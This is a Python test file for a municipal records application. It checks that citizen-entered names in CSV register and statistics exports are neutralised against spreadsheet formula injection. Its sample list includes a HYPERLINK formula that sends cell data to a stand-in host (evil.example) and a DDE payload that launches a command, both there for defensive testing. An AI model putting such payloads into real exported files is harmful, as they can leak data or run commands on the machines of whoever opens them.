"""CSV formula injection: both CSV exports (the form 06 register and the statistics tables)
write a cell a citizen or an author typed as text a spreadsheet will not evaluate."""

from __future__ import annotations

import csv
import io

import pytest

from motcua.register import RegisterRow, register_csv
from motcua.stats.tables import to_csv

NASTY = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
         "\tTAB=1", "\rCR=1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


@pytest.mark.parametrize("name", NASTY)
def test_register_csv_neutralises_a_formula_in_the_applicant_name(name):
    row = RegisterRow(number=1, code="H12.99-261204-0001", procedure="Đăng ký khai sinh", copies="1",
                      applicant=name, reach="Hải Châu", agency="UBND phường Hải Châu", received="08:00 04/12/2026",
                      due="05/12/2026", sent="", decided="", returned="", result="", note="")
    cells = _cells(register_csv([row]).decode("utf-8"))
    assert cells[1][4] == "'" + name  # shown as the text typed, never evaluated
    assert cells[1][0] == "1" and cells[1][2] == "Đăng ký khai sinh"  # ordinary cells as they were


def test_statistics_csv_neutralises_formula_text_and_keeps_numbers():
    text = to_csv(["Cơ quan", "Số hồ sơ"], [[name, -3] for name in NASTY] + [["Phường Hải Châu", 12]])
    cells = _cells(text)
    assert [c[0] for c in cells[1:-1]] == ["'" + name for name in NASTY]
    assert [c[1] for c in cells[1:]] == ["-3"] * len(NASTY) + ["12"]  # numbers stay numbers
    assert cells[-1][0] == "Phường Hải Châu"
